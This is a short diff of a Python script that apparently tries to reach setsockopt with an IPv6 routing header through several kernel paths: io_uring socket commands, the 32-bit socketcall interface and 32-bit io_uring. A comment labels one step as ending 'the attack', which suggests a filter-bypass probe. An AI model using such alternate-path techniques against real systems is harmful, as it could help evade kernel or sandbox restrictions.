@@ -78,7 +78,7 @@ def uring_linked():
     said, how = in_child(lambda: json.dumps(ring.submit([cmd, send])))
     got = dict(ring.reap())
     if not got and said.startswith("["):
-        got = {k: v for k, v in json.loads(said)}  # the child lived, and reaped them
+        got = dict(json.loads(said))  # the child lived, and reaped them
     if -got.get(1, 0) in (errno.EINVAL, errno.EOPNOTSUPP):
         unsupported(f"IORING_OP_URING_CMD SOCKET_URING_OP_SETSOCKOPT: {errno.errorcode[-got[1]]} (socket commands came in 6.7)")
     res = {k: (v if v >= 0 else errno.errorcode.get(-v, v)) for k, v in got.items()}
@@ -87,10 +87,10 @@ def uring_linked():
 
 
 if LINKED:
-    uring_linked()
+    uring_linked()  # reports: ends the attack
 if IA32:
     set_in_child(socketcall, "socketcall(SYS_SETSOCKOPT, IPV6_RTHDR via ::1)")
-if URING32 and not LINKED:
+if URING32:
     set_in_child(uring_cmd, "setsockopt(IPV6_RTHDR via ::1) through a 32-bit io_uring")
 try:
     s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, srh)
